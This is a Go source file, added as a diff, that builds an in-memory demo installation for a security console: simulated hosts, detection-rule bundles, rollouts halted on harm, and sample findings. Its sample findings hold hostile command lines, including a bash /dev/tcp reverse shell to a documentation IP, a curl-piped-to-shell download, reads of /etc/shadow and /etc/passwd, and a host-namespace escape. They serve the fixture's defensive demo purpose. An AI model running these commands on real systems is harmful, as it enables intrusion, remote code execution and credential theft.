@@ -1,0 +1,611 @@
+package console
+
+import (
+	"cmp"
+	"context"
+	"encoding/json"
+	"fmt"
+	"math"
+	"math/rand/v2"
+	"slices"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/holdfast-security/holdfast"
+)
+
+// fixture is an installation in memory: two hundred simulated hosts and one
+// real one, a release that is on its way, one that was halted, findings and a
+// record. The same seed makes the same installation.
+type fixture struct {
+	mu        sync.Mutex
+	now       time.Time
+	hosts     []HostRow
+	bundles   []BundleDetail
+	rolls     []*RolloutDetail
+	found     []holdfast.Finding
+	entries   []Entry
+	users     map[string]User
+	sessions  map[string]Session
+	listeners []func(Topic)
+}
+
+var fixtureTime = time.Date(2026, 11, 21, 14, 32, 10, 0, time.UTC)
+
+
+func fakeDigest(name string) holdfast.Digest { return holdfast.DigestOf([]byte(name)) }
+
+func newFixture(now time.Time) *fixture {
+	f := &fixture{now: now, users: map[string]User{}, sessions: map[string]Session{}}
+	r := rand.New(rand.NewPCG(19, 7))
+	f.makeBundles()
+	f.makeHosts(r)
+	f.makeFindings(r)
+	f.makeRecord()
+	f.makeRollouts()
+	return f
+}
+
+var (
+	oldRules   = fakeDigest("rules 1")
+	newRules   = fakeDigest("rules 2")
+	badRules   = fakeDigest("rules bad")
+	refused    = fakeDigest("rules refused")
+	agentBuild = fakeDigest("agent 0.1.0")
+	simBuild   = fakeDigest("agent 0.0.9")
+)
+
+var ruleRows = []RuleRow{
+	{"5f0e2a61-6f5c-4f0d-9d0e-1a7d0f3c1b01", "Shell spawned by a web server", "high", []string{"T1505.003", "T1059.004"}, "process_creation / linux", "rules/execution/web_server_shell.yml"},
+	{"8f3a1f0c-41fb-4bb1-8d9a-0f4b9c5d7a02", "Reverse shell through bash's network device", "critical", []string{"T1059.004"}, "process_creation / linux", "rules/execution/bash_dev_tcp.yml"},
+	{"1d9c8a77-02e4-43f5-a3d5-7c1b6ab3fb03", "Kernel module loaded from a world-writable directory", "high", []string{"T1547.006"}, "process_creation / linux", "rules/persistence/module_from_tmp.yml"},
+	{"c7be0d1e-9b1f-4d18-8b5c-0a9e6f1d2c04", "Shadow file read by an unusual program", "medium", []string{"T1003.008"}, "process_creation / linux", "rules/credentials/shadow_read.yml"},
+	{"e2a4f3b9-5d0c-4a6e-9f77-3b2c1d0e9f05", "System service made to start a file in /tmp", "high", []string{"T1543.002"}, "process_creation / linux", "rules/persistence/service_in_tmp.yml"},
+	{"0b7d6c5e-4f3a-4b2c-8d1e-9f0a1b2c3d06", "History cleared in an interactive shell", "low", []string{"T1070.003"}, "process_creation / linux", "rules/evasion/history_cleared.yml"},
+	{"9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c07", "Download piped into an interpreter", "medium", []string{"T1105", "T1059.004"}, "process_creation / linux", "rules/execution/curl_pipe_shell.yml"},
+	{"3c2d1e0f-a9b8-4c7d-8e6f-5a4b3c2d1e08", "Container runtime asked for the host's namespaces", "high", []string{"T1611"}, "process_creation / linux", "rules/escape/nsenter_host.yml"},
+}
+
+func (f *fixture) makeBundles() {
+	at := f.now.Add(-26 * time.Hour)
+	verdict := func(b holdfast.Digest, c holdfast.Channel, builds ...holdfast.BuildVerdict) *holdfast.Verdict {
+		return &holdfast.Verdict{Bundle: b, Channel: c, Started: at, Finished: at.Add(23 * time.Second), Seed: 1907, Builds: builds}
+	}
+	pass := func(build holdfast.Digest, version string) holdfast.BuildVerdict {
+		return holdfast.BuildVerdict{Build: build, Version: version, Passed: true, Figures: holdfast.VerdictFigures{
+			Rules: 38, Events: 118_204, FieldsExercised: 164, AttacksFound: 57, Attacks: 57, FalsePositives: 1, Benign: 20_000, NsPerEvent: 1312.4, PeakRSS: 41 << 20, LoadMillis: 38.2,
+		}}
+	}
+	fail := holdfast.BuildVerdict{Build: simBuild, Version: "0.0.9", Figures: holdfast.VerdictFigures{Rules: 39, Events: 3021, FieldsExercised: 21, Attacks: 58, AttacksFound: 12, Benign: 20_000, NsPerEvent: 1409, PeakRSS: 43 << 20, LoadMillis: 40},
+		Failures: []holdfast.RuleProblem{{Rule: ruleRows[7].ID, File: ruleRows[7].File, Field: "process.namespace_pid", Stage: "exercise", Reason: "the worker died reading field 21; its manifest names 21 inputs, its code supplies 20"}}}
+	row := func(c holdfast.Channel, v string, d holdfast.Digest, size int64, age time.Duration, rules, builds int, passed bool) BundleRow {
+		return BundleRow{Bundle: holdfast.Bundle{Channel: c, Version: v, Digest: d, Size: size, Created: f.now.Add(-age)}, Rules: rules, Rehearsed: true, Passed: passed, Builds: builds}
+	}
+	f.bundles = []BundleDetail{
+		{BundleRow: row(holdfast.Rules, "2026.11.21-2", newRules, 48_211, 70*time.Minute, 38, 2, true), Contents: ruleRows[:7], Verdict: verdict(newRules, holdfast.Rules, pass(agentBuild, "0.1.0"), pass(simBuild, "0.0.9")), Signers: []string{"a41b9c03d7e5f1", "77c0de19ab3344"}, Needed: 2},
+		{BundleRow: row(holdfast.Rules, "2026.11.21-1", refused, 49_002, 90*time.Minute, 39, 2, false), Contents: ruleRows, Verdict: verdict(refused, holdfast.Rules, pass(agentBuild, "0.1.0"), fail), Needed: 2},
+		{BundleRow: row(holdfast.Rules, "2026.11.20-3", badRules, 47_800, 22*time.Hour, 37, 2, true), Contents: ruleRows[:6], Verdict: verdict(badRules, holdfast.Rules, pass(agentBuild, "0.1.0"), pass(simBuild, "0.0.9")), Signers: []string{"a41b9c03d7e5f1", "77c0de19ab3344"}, Needed: 2},
+		{BundleRow: row(holdfast.Rules, "2026.11.18-1", oldRules, 46_120, 70*time.Hour, 36, 2, true), Contents: ruleRows[:6], Verdict: verdict(oldRules, holdfast.Rules, pass(agentBuild, "0.1.0"), pass(simBuild, "0.0.9")), Signers: []string{"a41b9c03d7e5f1", "77c0de19ab3344"}, Needed: 2},
+		{BundleRow: row(holdfast.Agent, "0.1.0", agentBuild, 18<<20, 80*time.Hour, 0, 1, true), Verdict: verdict(agentBuild, holdfast.Agent, pass(agentBuild, "0.1.0")), Signers: []string{"a41b9c03d7e5f1", "77c0de19ab3344"}, Needed: 2},
+	}
+}
+
+func (f *fixture) makeHosts(r *rand.Rand) {
+	roles := []string{"server", "server", "server", "laptop", "build"}
+	distros := [][2]string{{"debian-12", "6.1"}, {"debian-13", "6.12"}, {"ubuntu-24.04", "6.8"}, {"rhel-9", "5.14"}}
+	for i := range 201 {
+		role, d := roles[r.IntN(len(roles))], distros[r.IntN(len(distros))]
+		h := holdfast.Host{
+			ID: holdfast.HostID(fmt.Sprintf("h%05x", i*7919+4099)), Org: holdfast.DefaultOrg, Simulated: i > 0, Connected: true,
+			Enrolled: f.now.Add(-72 * time.Hour), LastSeen: f.now.Add(-time.Duration(r.IntN(900)) * time.Millisecond),
+			Attributes: holdfast.Attributes{Hostname: fmt.Sprintf("sim-%s-%03d", role, i), OS: "linux", Arch: "amd64", Kernel: d[1], Distro: d[0], Role: role, Build: agentBuild, Version: "0.1.0", Sensor: "replay"},
+			Report: holdfast.HostReport{
+				Boot: fmt.Sprintf("b%08x", r.Uint32()), Running: holdfast.Generation{holdfast.Rules: oldRules, holdfast.Agent: agentBuild},
+				Previous: holdfast.Generation{holdfast.Agent: agentBuild}, Events: uint64(r.IntN(90_000)), RSS: uint64(38+r.IntN(9)) << 20, CPU: uint64(3 + r.IntN(9)),
+			},
+		}
+		if i%4 == 1 {
+			h.Attributes.Build, h.Attributes.Version = simBuild, "0.0.9"
+		}
+		if i == 0 {
+			h.Attributes.Hostname, h.Attributes.Sensor, h.Attributes.Role = "workbench", "ebpf", "laptop"
+		}
+		ring := demoPlan[demoPlan.Of(h.ID)].Name
+		switch {
+		case ring != "general" && i != 57, i%9 == 2:
+			h.Report.Previous = h.Report.Running
+			h.Report.Running = h.Report.Running.With(holdfast.Rules, newRules)
+			h.Report.Attempted = h.Report.Running
+			h.Report.Probation = i%9 == 2
+			h.Report.Activation = "lease-" + string(h.ID)
+		}
+		switch i {
+		case 43, 119:
+			h.Report.Attempted = holdfast.Generation{holdfast.Rules: badRules, holdfast.Agent: agentBuild}
+			h.Report.Failed, h.Report.Shunned, h.Report.Crashes = h.Report.Attempted, []holdfast.Digest{badRules}, 1
+			h.Report.Running, h.Report.Probation = holdfast.Generation{holdfast.Rules: oldRules, holdfast.Agent: agentBuild}, false
+			h.Report.Reason = "worker died with signal 11 while evaluating, 4 s into probation"
+		case 77:
+			h.Connected, h.LastSeen = false, f.now.Add(-17*time.Minute)
+		case 150:
+			h.Report.SafeMode, h.Report.Running, h.Report.Reason, h.Report.Probation = true, nil, "previous generation died the same way", false
+		case 88:
+			h.Report.EventsDropped = 1204
+		}
+		f.hosts = append(f.hosts, HostRow{Host: h, State: StateOf(h), Ring: ring, Labels: f.labels(h.Report.Running)})
+	}
+	slices.SortFunc(f.hosts, func(a, b HostRow) int { return cmp.Compare(a.Attributes.Hostname, b.Attributes.Hostname) })
+}
+
+var demoPlan = holdfast.RingPlan{{Name: "internal", Through: 30_000}, {Name: "early", Through: 250_000, Soak: 20 * time.Second}, {Name: "general", Through: 1_000_000, Soak: 3 * time.Minute}}
+
+func (f *fixture) versions() map[holdfast.Digest]string {
+	v := map[holdfast.Digest]string{}
+	for _, b := range f.bundles {
+		v[b.Digest] = b.Version
+	}
+	v[simBuild] = "0.0.9"
+	return v
+}
+
+func (f *fixture) labels(g holdfast.Generation) []string {
+	var l []string
+	for _, c := range holdfast.Channels {
+		if d, ok := g[c]; ok {
+			l = append(l, string(c)+" "+label(f.versions(), d))
+		}
+	}
+	return l
+}
+
+func (f *fixture) makeFindings(r *rand.Rand) {
+	cmds := []string{
+		"/bin/sh -c id; uname -a; cat /etc/passwd", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "insmod /tmp/.x/diag.ko", "cat /etc/shadow",
+		"systemctl enable /tmp/update.service", "history -c", "curl -fsSL https://203.0.113.40/i.sh | sh", "nsenter -t 1 -m -u -i -n sh",
+	}
+	for i := range 132 {
+		rule := ruleRows[min(len(ruleRows)-1, int(math.Abs(r.NormFloat64()*3)))]
+		k := slices.IndexFunc(ruleRows, func(x RuleRow) bool { return x.ID == rule.ID })
+		h := f.hosts[r.IntN(len(f.hosts))]
+		if i == 0 {
+			h = f.hosts[len(f.hosts)-1]
+			rule, k = ruleRows[1], 1
+		}
+		at := f.now.Add(-time.Duration(i*i*6+9) * time.Second)
+		p := holdfast.Process{PID: 20_000 + i, Path: "/usr/bin/" + strings.Fields(strings.TrimPrefix(cmds[k], "/bin/"))[0], CmdLine: cmds[k], User: "www-data", Started: at.Add(-2 * time.Millisecond)}
+		f.found = append(f.found, holdfast.Finding{
+			ID: fakeDigest(fmt.Sprint("finding", i)).Hex()[:32], Org: holdfast.DefaultOrg, Host: h.ID, Hostname: h.Attributes.Hostname, Rule: rule.ID, Title: rule.Title, Severity: rule.Level, Techniques: rule.Techniques,
+			At: at, Received: at.Add(time.Duration(120+r.IntN(400)) * time.Millisecond), Bundle: newRules,
+			Event: []holdfast.Fact{
+				{Field: "class_uid", Value: "1007"}, {Field: "activity_id", Value: "1"}, {Field: "process.pid", Value: itoa(p.PID)}, {Field: "process.file.path", Value: p.Path}, {Field: "process.cmd_line", Value: p.CmdLine},
+				{Field: "process.user.name", Value: "www-data"}, {Field: "process.parent_process.file.path", Value: "/usr/sbin/nginx"}, {Field: "process.parent_process.cmd_line", Value: "nginx: worker process"}, {Field: "device.hostname", Value: h.Attributes.Hostname},
+			},
+			Matched: []holdfast.Fact{{Field: "process.cmd_line", Value: p.CmdLine}, {Field: "process.parent_process.file.path", Value: "/usr/sbin/nginx"}},
+			Tree: []holdfast.Process{
+				p,
+				{PID: 811, Path: "/usr/sbin/nginx", CmdLine: "nginx: worker process", User: "www-data", Started: f.now.Add(-50 * time.Hour)},
+				{PID: 790, Path: "/usr/sbin/nginx", CmdLine: "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", User: "root", Started: f.now.Add(-50 * time.Hour)},
+				{PID: 1, Path: "/usr/lib/systemd/systemd", CmdLine: "/sbin/init", User: "root", Started: f.now.Add(-51 * time.Hour)},
+			},
+		})
+	}
+}
+
+func (f *fixture) makeRecord() {
+	add := func(age time.Duration, kind, by string, id holdfast.ReleaseID, summary string) {
+		i := int64(len(f.entries))
+		body, _ := json.MarshalIndent(map[string]any{"kind": kind, "by": by, "release": id, "at": f.now.Add(-age)}, "", "  ")
+		f.entries = append(f.entries, Entry{Index: i, At: f.now.Add(-age), Kind: kind, By: by, Release: id, Summary: summary, Hash: fakeDigest(fmt.Sprint(kind, i)).Hex(), Body: string(body)})
+	}
+	add(80*time.Hour, "publish", "ada", "", "agent 0.1.0 was published, signed by 2 of 3 keys")
+	for i := range 48 {
+		add(time.Duration(79-i)*time.Hour, "verdict", "rehearsal", "", fmt.Sprintf("nightly rehearsal %d of rules 2026.11.18-1 passed on 2 builds", i+1))
+	}
+	add(22*time.Hour, "publish", "ada", "r-2026-0117", "rules 2026.11.20-3 was published, signed by 2 of 3 keys")
+	add(22*time.Hour-time.Minute, "approve", "grace", "r-2026-0117", "rules 2026.11.20-3 was approved")
+	add(22*time.Hour-2*time.Minute, "promote", "rollout", "r-2026-0117", "ring internal opened")
+	add(22*time.Hour-3*time.Minute, "hold", "rollout", "r-2026-0117", "held: pooled evidence reached 14.2")
+	add(22*time.Hour-200*time.Second, "halt", "rollout", "r-2026-0117", "rules 2026.11.20-3 was halted: evidence 4,714 passed 1,000 with 2 hosts harmed")
+	add(22*time.Hour-201*time.Second, "recall", "rollout", "r-2026-0117", "6 hosts are called back")
+	add(90*time.Minute, "verdict", "rehearsal", "", "rules 2026.11.21-1 was refused on build 0.0.9")
+	add(70*time.Minute, "verdict", "rehearsal", "r-2026-0118", "rules 2026.11.21-2 passed on 2 builds")
+	add(7*time.Minute, "publish", "ada", "r-2026-0118", "rules 2026.11.21-2 was published, signed by 2 of 3 keys")
+	add(6*time.Minute, "approve", "grace", "r-2026-0118", "rules 2026.11.21-2 was approved")
+	add(6*time.Minute-time.Second, "promote", "rollout", "r-2026-0118", "ring internal opened")
+	add(4*time.Minute, "promote", "rollout", "r-2026-0118", "ring early opened: its soak has passed")
+	add(20*time.Second, "promote", "rollout", "r-2026-0118", "ring general opened: its soak has passed")
+}
+
+func (f *fixture) entriesOf(id holdfast.ReleaseID) []Entry {
+	var list []Entry
+	for _, e := range slices.Backward(f.entries) {
+		if e.Release == id {
+			list = append(list, e)
+		}
+	}
+	return list
+}
+
+func (f *fixture) makeRollouts() {
+	start := f.now.Add(-6 * time.Minute)
+	rings := func(at time.Time, admitted, clean, harmed []int) []RingProgress {
+		var list []RingProgress
+		for i, r := range demoPlan {
+			n := 0
+			for _, h := range f.hosts {
+				if demoPlan.Of(h.ID) == i {
+					n++
+				}
+			}
+			a := min(admitted[i], n)
+			list = append(list, RingProgress{Ring: r, Opens: at.Add(r.Soak), Eligible: n, Admitted: a, Clean: min(clean[i], a), Harmed: harmed[i], Placebo: a / 3})
+		}
+		return list
+	}
+	row := func(id holdfast.ReleaseID, b int, phase holdfast.Phase, at time.Time, e float64, rs []RingProgress) RolloutRow {
+		r := RolloutRow{
+			Release: holdfast.Release{ID: id, Org: holdfast.DefaultOrg, Bundle: f.bundles[b].Bundle, Profile: holdfast.Urgent, Rings: demoPlan, Signed: at.Add(-time.Minute), Created: at.Add(-time.Minute), By: "ada", Approved: "grace", Note: "Adds the web shell rules after this week's advisory."},
+			Phase:   phase, Started: at, Eligible: len(f.hosts), Evidence: e, Alpha: 1e-3, Rings: rs,
+		}
+		for _, x := range rs {
+			r.Admitted, r.Clean, r.Harmed = r.Admitted+x.Admitted, r.Clean+x.Clean, r.Harmed+x.Harmed
+		}
+		f.bundles[b].Release, f.bundles[b].Phase = id, phase
+		return r
+	}
+	running := &RolloutDetail{RolloutRow: row("r-2026-0118", 0, holdfast.Running, start, 0.62, rings(start, []int{9, 40, 14}, []int{9, 33, 0}, []int{0, 0, 0})), Now: f.now, Pooled: .7, Why: "Ring general is open; 21 more hosts may be admitted now.", Recall: Recall{}}
+	r := rand.New(rand.NewPCG(5, 291))
+	a, e := 0.0, 1.0
+	for t := range 36 {
+		at := start.Add(time.Duration(t) * 10 * time.Second)
+		if t%3 == 0 {
+			a = min(float64(running.Admitted), a+1+math.Floor(a*.35))
+		}
+		e = max(.3, e*(1+r.NormFloat64()*.12))
+		running.Exposure = append(running.Exposure, Sample{at, a})
+		running.Proof = append(running.Proof, Sample{at, e})
+	}
+	running.Exposure = append(running.Exposure, Sample{f.now, float64(running.Admitted)})
+	running.Proof = append(running.Proof, Sample{f.now, .62})
+	running.Harms = []HarmRow{{holdfast.Harm{Seq: 1, Release: "r-2026-0118", Host: f.hosts[12].ID, Stratum: f.hosts[12].Attributes.Stratum(), Block: 3, Arm: holdfast.Placebo, Kind: holdfast.Silence, At: f.now.Add(-100 * time.Second), Detail: "3 heartbeats missed"}, f.hosts[12].Attributes.Hostname, true}}
+	running.Bound = Bound{Delta: .05, HU: .0844, Pending: running.Admitted - running.Clean, Budget: 18.4, Uncovered: .12, Controls: 74, Latent: []Latent{{10 * time.Minute, 63}, {time.Hour, 201}, {24 * time.Hour, 201}}}
+	running.Timeline = f.entriesOf("r-2026-0118")
+
+	at := f.now.Add(-22*time.Hour + 2*time.Minute)
+	halted := &RolloutDetail{RolloutRow: row("r-2026-0117", 2, holdfast.Halted, at, 4714.4, rings(at, []int{6, 0, 0}, []int{4, 0, 0}, []int{2, 0, 0})), Now: f.now, Pooled: 4714, Why: "Evidence of harm passed the threshold.", Recall: Recall{Hosts: 6, Back: 6}}
+	halted.Ended = at.Add(80 * time.Second)
+	halted.Exposure = []Sample{{at, 1}, {at.Add(10 * time.Second), 3}, {at.Add(20 * time.Second), 6}}
+	halted.Proof = []Sample{{at, 1}, {at.Add(31 * time.Second), 55.06}, {at.Add(46 * time.Second), 8.46}, {at.Add(78 * time.Second), 4714.4}}
+	for i, k := range []int{43, 119} {
+		h := f.hosts[k]
+		halted.Harms = append(halted.Harms, HarmRow{holdfast.Harm{Seq: int64(i + 1), Release: "r-2026-0117", Host: h.ID, Stratum: h.Attributes.Stratum(), Arm: holdfast.New, Kind: holdfast.Crash, At: at.Add(time.Duration(31+i*47) * time.Second), Detail: "signal 11, 4 s into probation"}, h.Attributes.Hostname, true})
+	}
+	halted.Bound = Bound{Delta: .05, HU: .62, Pending: 0, Budget: 18.4, Uncovered: .71, Controls: 60}
+	halted.Timeline = f.entriesOf("r-2026-0117")
+
+	old := f.now.Add(-70 * time.Hour)
+	complete := &RolloutDetail{RolloutRow: row("r-2026-0116", 3, holdfast.Complete, old, .21, rings(old, []int{999, 999, 999}, []int{999, 999, 999}, []int{0, 0, 0})), Now: f.now}
+	complete.Ended = old.Add(9 * time.Minute)
+	complete.Exposure = []Sample{{old, 4}, {old.Add(time.Minute), 30}, {old.Add(4 * time.Minute), 201}}
+	complete.Proof = []Sample{{old, 1}, {old.Add(4 * time.Minute), .21}}
+	f.rolls = []*RolloutDetail{running, halted, complete}
+}
+
+// Source.
+
+func (f *fixture) Overview(context.Context) (Overview, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	o := Overview{Now: f.now, States: map[HostState]int{}, Hosts: len(f.hosts), Trend: Trend{Step: 30 * time.Minute, From: f.now.Add(-24 * time.Hour), By: map[holdfast.Severity][]int{}}}
+	for _, r := range demoPlan {
+		rs := RingStates{Name: r.Name, States: map[HostState]int{}}
+		for _, h := range f.hosts {
+			if h.Ring == r.Name {
+				rs.Hosts++
+				rs.States[h.State]++
+				rs.Of = append(rs.Of, HostDot{h.ID, h.Attributes.Hostname, h.State, h.Simulated})
+			}
+		}
+		o.Rings = append(o.Rings, rs)
+	}
+	builds := map[string]*BuildCount{}
+	for _, h := range f.hosts {
+		o.States[h.State]++
+		b := builds[h.Attributes.Version]
+		if b == nil {
+			b = &BuildCount{Version: h.Attributes.Version, Digest: h.Attributes.Build, Sensor: h.Attributes.Sensor}
+			builds[h.Attributes.Version] = b
+		}
+		b.Hosts++
+		if h.Simulated {
+			o.Simulated++
+			b.Simulated++
+		}
+		o.Loss.Events += h.Report.Events
+		o.Loss.EventsDropped += h.Report.EventsDropped
+		o.Loss.Crashes += h.Report.Crashes
+	}
+	for _, b := range builds {
+		o.Builds = append(o.Builds, *b)
+	}
+	slices.SortFunc(o.Builds, func(a, b BuildCount) int { return cmp.Compare(b.Version, a.Version) })
+	for _, x := range f.found {
+		if i := int(x.At.Sub(o.Trend.From) / o.Trend.Step); i >= 0 && i < 48 {
+			if o.Trend.By[x.Severity] == nil {
+				o.Trend.By[x.Severity] = make([]int, 48)
+			}
+			o.Trend.By[x.Severity][i]++
+		}
+	}
+	o.Rollout = &f.rolls[0].RolloutRow
+	o.Findings = f.found[:6]
+	for _, e := range slices.Backward(f.entries) {
+		if o.Decisions = append(o.Decisions, e); len(o.Decisions) == 6 {
+			break
+		}
+	}
+	return o, nil
+}
+
+func (f *fixture) Hosts(_ context.Context, q HostQuery) (HostPage, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	p := HostPage{Rings: []string{"internal", "early", "general"}, Roles: []string{"build", "laptop", "server"}, Builds: []string{"0.0.9", "0.1.0"}}
+	var all []HostRow
+	for _, h := range f.hosts {
+		a := h.Attributes
+		text := strings.ToLower(strings.Join([]string{string(h.ID), a.Hostname, a.Distro, a.Kernel, a.Role, a.Version, a.Sensor}, " "))
+		if strings.Contains(text, strings.ToLower(q.Text)) && (q.State == "" || q.State == h.State) && (q.Ring == "" || q.Ring == h.Ring) && (q.Role == "" || q.Role == a.Role) &&
+			(q.Build == "" || q.Build == a.Version) && (q.Kind == "" || (q.Kind == "simulated") == h.Simulated) {
+			all = append(all, h)
+		}
+	}
+	p.Total = len(all)
+	lo := min(len(all), (q.Page-1)*q.Size)
+	p.Hosts = all[lo:min(len(all), lo+q.Size)]
+	return p, nil
+}
+
+func (f *fixture) Host(_ context.Context, id holdfast.HostID) (HostDetail, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	i := slices.IndexFunc(f.hosts, func(h HostRow) bool { return h.ID == id })
+	if i < 0 {
+		return HostDetail{}, notFound("host", string(id))
+	}
+	d := HostDetail{HostRow: f.hosts[i], Versions: f.versions(), Now: f.now}
+	for _, r := range f.rolls {
+		for _, h := range r.Harms {
+			if h.Host == id {
+				d.Harms = append(d.Harms, h.Harm)
+			}
+		}
+	}
+	for _, x := range f.found {
+		if x.Host == id {
+			d.Findings = append(d.Findings, x)
+		}
+	}
+	return d, nil
+}
+
+func notFound(what, id string) error {
+	return &holdfast.Error{Kind: holdfast.NotFound, What: "there is no " + what + " of that id", Where: id}
+}
+
+func (f *fixture) Bundles(context.Context) ([]BundleRow, error) {
+	var rows []BundleRow
+	for _, b := range f.bundles {
+		for _, h := range f.hosts {
+			if h.Report.Running[b.Channel] == b.Digest {
+				b.Hosts++
+			}
+		}
+		rows = append(rows, b.BundleRow)
+	}
+	return rows, nil
+}
+
+func (f *fixture) Bundle(_ context.Context, d holdfast.Digest) (BundleDetail, error) {
+	for _, b := range f.bundles {
+		if b.Digest == d {
+			return b, nil
+		}
+	}
+	return BundleDetail{}, notFound("bundle", string(d))
+}
+
+func (f *fixture) Rollouts(context.Context) ([]RolloutRow, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	var rows []RolloutRow
+	for _, r := range f.rolls {
+		rows = append(rows, r.RolloutRow)
+	}
+	return rows, nil
+}
+
+func (f *fixture) Rollout(_ context.Context, id holdfast.ReleaseID) (RolloutDetail, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	for _, r := range f.rolls {
+		if r.ID == id {
+			return *r, nil
+		}
+	}
+	return RolloutDetail{}, notFound("rollout", string(id))
+}
+
+func (f *fixture) Findings(_ context.Context, q FindingQuery) (FindingPage, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	var all []holdfast.Finding
+	for _, x := range f.found {
+		text := strings.ToLower(x.Title + " " + x.Hostname + " " + commandOf(x))
+		if strings.Contains(text, strings.ToLower(q.Text)) && (q.Severity == "" || q.Severity == x.Severity) && (q.Host == "" || q.Host == x.Host) && (q.Technique == "" || slices.Contains(x.Techniques, q.Technique)) {
+			all = append(all, x)
+		}
+	}
+	lo := min(len(all), (q.Page-1)*q.Size)
+	return FindingPage{all[lo:min(len(all), lo+q.Size)], len(all)}, nil
+}
+
+func (f *fixture) Finding(_ context.Context, id string) (FindingDetail, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	for _, x := range f.found {
+		if x.ID == id {
+			i := slices.IndexFunc(ruleRows, func(r RuleRow) bool { return r.ID == x.Rule })
+			return FindingDetail{Finding: x, Version: "2026.11.21-2", Rule: &ruleRows[i], Simulated: x.Hostname != "workbench", Others: 12}, nil
+		}
+	}
+	return FindingDetail{}, notFound("finding", id)
+}
+
+func (f *fixture) Record(_ context.Context, q RecordQuery) (RecordPage, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	p := RecordPage{Size: int64(len(f.entries)), Kinds: []string{"approve", "halt", "hold", "promote", "publish", "recall", "verdict"}, Checkpoint: "holdfast.example/record\n64\nC7Yx8x0m4rZ0G9q3yN6kqv8n5yJ4oX1dH2b3cW9uE0s=\n\n— holdfast.example/record 3Zk1T0v5bq9cWm2oXy8rN4aHdJtGfLpQsUeViKxBzC7M6A1D+w=\n"}
+	for _, e := range slices.Backward(f.entries) {
+		if (q.Before == 0 || e.Index < q.Before) && (q.Kind == "" || q.Kind == e.Kind) && len(p.Entries) < q.Size {
+			p.Entries = append(p.Entries, e)
+		}
+	}
+	return p, nil
+}
+
+func (f *fixture) ExportRecord(context.Context) ([]byte, error) { return json.Marshal(f.entries) }
+
+// Actions.
+
+func (f *fixture) act(id holdfast.ReleaseID, by, kind string, to holdfast.Phase, from ...holdfast.Phase) error {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	for _, r := range f.rolls {
+		if r.ID != id {
+			continue
+		}
+		if !slices.Contains(from, r.Phase) {
+			return &holdfast.Error{Kind: holdfast.Conflict, What: "the rollout is " + string(r.Phase), Where: string(id)}
+		}
+		r.Phase = to
+		if to.Recalling() {
+			r.Recall = Recall{r.Admitted, 0}
+		}
+		f.entries = append(f.entries, Entry{Index: int64(len(f.entries)), At: f.now, Kind: kind, By: by, Release: id, Summary: r.name() + ": " + kind + " by hand"})
+		r.Timeline = f.entriesOf(id)
+		for _, l := range f.listeners {
+			l(TopicRollouts)
+		}
+		return nil
+	}
+	return notFound("rollout", string(id))
+}
+
+func (f *fixture) Halt(_ context.Context, id holdfast.ReleaseID, by, _ string) error {
+	return f.act(id, by, "halt", holdfast.Halted, holdfast.Waiting, holdfast.Running, holdfast.Held, holdfast.Paused)
+}
+
+func (f *fixture) Pause(_ context.Context, id holdfast.ReleaseID, by, _ string) error {
+	return f.act(id, by, "pause", holdfast.Paused, holdfast.Running, holdfast.Held)
+}
+
+func (f *fixture) Resume(_ context.Context, id holdfast.ReleaseID, by string) error {
+	return f.act(id, by, "resume", holdfast.Running, holdfast.Paused)
+}
+
+func (f *fixture) Approve(_ context.Context, id holdfast.ReleaseID, by string) error {
+	return f.act(id, by, "approve", holdfast.Running, holdfast.Waiting)
+}
+
+func (f *fixture) Override(_ context.Context, id holdfast.ReleaseID, by, _ string) error {
+	return f.act(id, by, "override", holdfast.Running, holdfast.Halted, holdfast.Stopped)
+}
+
+// Hints.
+
+func (f *fixture) Listen(ctx context.Context, l func(Topic)) {
+	f.mu.Lock()
+	f.listeners = append(f.listeners, l)
+	f.mu.Unlock()
+	<-ctx.Done()
+}
+
+func (f *fixture) hint(t Topic) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	for _, l := range f.listeners {
+		l(t)
+	}
+}
+
+// Accounts.
+
+func (f *fixture) User(_ context.Context, name string) (User, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	if u, ok := f.users[name]; ok {
+		return u, nil
+	}
+	return User{}, notFound("user", name)
+}
+
+func (f *fixture) Users(context.Context) ([]User, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	var list []User
+	for _, u := range f.users {
+		list = append(list, u)
+	}
+	slices.SortFunc(list, func(a, b User) int { return cmp.Compare(a.Name, b.Name) })
+	return list, nil
+}
+
+func (f *fixture) PutUser(_ context.Context, u User, _ string) error {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.users[u.Name] = u
+	return nil
+}
+
+func (f *fixture) DeleteUser(_ context.Context, name, _ string) error {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	if _, ok := f.users[name]; !ok {
+		return notFound("user", name)
+	}
+	delete(f.users, name)
+	for h, s := range f.sessions {
+		if s.User == name {
+			delete(f.sessions, h)
+		}
+	}
+	return nil
+}
+
+func (f *fixture) PutSession(_ context.Context, s Session) error {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.sessions[s.Hash] = s
+	return nil
+}
+
+func (f *fixture) Session(_ context.Context, hash string) (Session, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	if s, ok := f.sessions[hash]; ok {
+		return s, nil
+	}
+	return Session{}, notFound("session", "")
+}
+
+func (f *fixture) EndSession(_ context.Context, hash string) error {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	if _, ok := f.sessions[hash]; !ok {
+		return notFound("session", "")
+	}
+	delete(f.sessions, hash)
+	return nil
+}
